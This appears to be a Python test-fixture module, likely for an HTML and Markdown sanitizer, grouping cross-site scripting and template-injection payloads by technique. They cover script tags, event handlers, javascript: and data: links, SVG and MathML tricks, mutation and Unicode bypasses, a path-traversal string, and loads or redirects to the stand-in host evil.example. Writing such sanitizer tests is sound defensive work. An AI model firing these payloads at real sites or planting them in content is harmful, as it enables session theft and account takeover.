"""What somebody might type to have it run on a reader's page, by kind; the words are our own.

Each tries to call `canary()`, or to make the page go to or fetch from `evil.example`.
"""

_SCRIPTS = """
<script>canary()</script>
<SCRIPT SRC=https://evil.example/a.js></SCRIPT>
<script src=//evil.example/a.js></script>
<script/x>canary()</script>
<scr<script>ipt>canary()</scr</script>ipt>
<script>canary()//
</script><script>canary()</script>
</title><script>canary()</script>
</textarea></style></noscript></template><script>canary()</script>
<script type=module>import("https://evil.example/a.js")</script>
--></script><!--<script>canary()</script>-->
<!--[if gte IE 4]><script>canary()</script><![endif]-->
<?xml version="1.0"?><script>canary()</script>
<![CDATA[<script>canary()</script>]]>
]]><script>canary()</script>
\\u003cscript\\u003ecanary()\\u003c/script\\u003e
%3Cscript%3Ecanary()%3C/script%3E
&lt;script&gt;canary()&lt;/script&gt;
&#60;script&#62;canary()&#60;/script&#62;
<script>canary()</script
＜script＞canary()＜/script＞
"""
_HANDLERS = """
<img src=x onerror=canary()>
<img/src=x/onerror=canary()>
<IMG SRC=x OnErRoR="canary()">
<img src=x onerror&#61;canary()>
"><img src=x onerror=canary()>
'><img src=x onerror=canary()>
`><img src=x onerror=canary()>
" autofocus onfocus="canary()
' autofocus onfocus='canary()
" onpointerover=canary() style="position:fixed;inset:0
<body onload=canary()>
<details open ontoggle=canary()>x</details>
<video><source onerror=canary()></video>
<audio src=x onerror=canary()>
<input autofocus onfocus=canary()>
<p style="animation:x" onanimationstart=canary()>x</p>
<a href=# onclick=canary()>x</a>
<img src=x onerror="canary()
<img src='x' title="a' onerror=canary() b">
<div onpointerenter=canary() style=position:fixed;inset:0;z-index:9>x</div>
"""
_SCHEMES = """
<a href="javascript:canary()">x</a>
<a href="JaVaScRiPt:canary()">x</a>
<a href="java&#9;script:canary()">x</a>
<a href="java&Tab;script&colon;canary()">x</a>
<a href="&#x6A;&#x61;&#x76;&#x61;script:canary()">x</a>
<a href=" &#14; javascript:canary()">x</a>
<a href="vbscript:canary()">x</a>
<a href="data:text/html,<script>canary()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="view-source:javascript:canary()">x</a>
<a href="//evil.example/x">x</a>
<a href="/\\evil.example/x">x</a>
<a href="https:evil.example">x</a>
<img src="javascript:canary()">
<img src="//evil.example/x.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>">
<img srcset="//evil.example/x.png 1x, https://evil.example/y.png 2x">
<a href=x ping=https://evil.example/ping>x</a>
"""
_ELEMENTS = """
<svg onload=canary()>
<svg><script>canary()</script></svg>
<svg><a xlink:href="javascript:canary()"><text y=9>x</text></a></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=canary()></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></svg>
<math><maction actiontype="statusline#x" xlink:href="javascript:canary()">x</maction></math>
<iframe src="javascript:parent.canary()"></iframe>
<iframe srcdoc="<script>parent.canary()</script>"></iframe>
<object data="javascript:canary()"></object>
<embed src="https://evil.example/x.swf">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=image href="https://evil.example/x.png">
<form action="https://evil.example/"><button autofocus>x</button></form>
<button form=x formaction="javascript:canary()">x</button>
<isindex action=javascript:canary() type=image>
<table background="https://evil.example/x.png"><tr><td>x</table>
<marquee onstart=canary()>x</marquee>
<portal src="https://evil.example/"></portal>
<template shadowrootmode=open><script>canary()</script></template>
"""
_STYLES = """
<style>*{background:url(https://evil.example/x)}</style>
<style>@import "https://evil.example/x.css";</style>
<p style="background:url(https://evil.example/x)">x</p>
<p style="width:expression(canary())">x</p>
<p style="-moz-binding:url(https://evil.example/x#y)">x</p>
"""
# What changes its meaning when it is parsed, written and parsed again.
_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>
<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src=x onerror=canary()&gt;">
<svg></p><style><a id="</style><img src=x onerror=canary()>"></a></style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()></style></form>
<p id="</p><img src=x onerror=canary()>">x</p>
<xmp><p title="</xmp><img src=x onerror=canary()>"></xmp>
<listing>&lt;img src=x onerror=canary()&gt;</listing>
<a title="`<img src=x onerror=canary()>`">x</a>
<b title='"><img src=x onerror=canary()>'>x</b>
"""
_TEMPLATES = """
{{ canary() }}{{ 7*7 }}{% for x in [1] %}x{% endfor %}
${canary()} #{canary()} <%= canary() %> {name} {0} %(name)s
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{constructor.constructor('canary()')()}}
","x":{"@type":"Person"},"y":"\\
\\";canary();//
';canary();//
"""
_TRICKS = """
<img src=x onerror\u00a0=canary()>
<img\u2028src=x\u2028onerror=canary()>
<\u0000script>canary()</script>
<img src=x one\u0000rror=canary()>
<ſcript>canary()</ſcript>
\u202e<script>canary()</script>\u202c
\ufeff<script>canary()</script>
+ADw-script+AD4-canary()+ADw-/script+AD4-
../../../../etc/passwd<img src=x onerror=canary()>
<a href="java\u200bscript:canary()">x</a>
"""
_MARKDOWN = """
[x](javascript:canary())
[x](<java\tscript:canary()>)
[x](&#106;avascript:canary())
[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)
[x](//evil.example)
[x](https://evil.example "\\" onclick=canary() \\"")
![x](javascript:canary())
![x" onerror="canary()](x.png)
![x](x.png"onerror="canary())
![x](//evil.example/x.png)
<javascript:canary()>
<https://evil.example/"onclick=canary()//>
[![x](x onerror=canary())](javascript:canary())
[x][y] [y]: javascript:canary()
`<script>canary()</script>` ``<img src=x onerror=canary()>``
"""
# These stand over several lines, and only a body has those.
_BLOCKS = (
    "[x][y]\n\n[y]: javascript:canary()\n",
    "[x][y]\n\n[y]: https://a.example/ '\" onclick=canary() \"'\n",
    "x[^1]\n\n[^1]: <script>canary()</script><img src=x onerror=canary()>\n",
    'x[^"onclick=canary()]\n\n[^"onclick=canary()]: x\n',
    "| <script>canary() | [x](javascript:canary()) |\n|:-:|-:|\n| <img src=x onerror=canary()> |\n",
    '```"onclick=canary()\n<script>canary()</script>\n```\n',
    "```html <img src=x onerror=canary()>\n</code></pre><script>canary()</script>\n```\n",
    "<script\n>\ncanary()\n</script\n>\n",
    "<img src=x\nonerror=canary()\n>\n",
    "<div>\n\n<script>\n\ncanary()\n\n</script>\n\n</div>\n",
    "<!--\n-->\n<img src=x onerror=canary()>\n",
    "<a title='\n\n' href=javascript:canary()>x</a>\n",
    "    <script>canary()</script>\n\n</code></pre><script>canary()</script>\n",
    "x <script>canary()</script>\n: <img src=x onerror=canary()>\n",
    "> <script>\n> canary()\n\n</script>\n",
)


def _of(kind: str) -> list[str]:
    return [line for line in kind.split("\n") if line]


LINES = [
    line
    for kind in (
        _SCRIPTS,
        _HANDLERS,
        _SCHEMES,
        _ELEMENTS,
        _STYLES,
        _MUTATIONS,
        _TEMPLATES,
        _TRICKS,
        _MARKDOWN,
    )
    for line in _of(kind)
]
BODIES = [*(f"{line}\n\nAfter {line}\n\n- {line}\n" for line in LINES), *_BLOCKS]
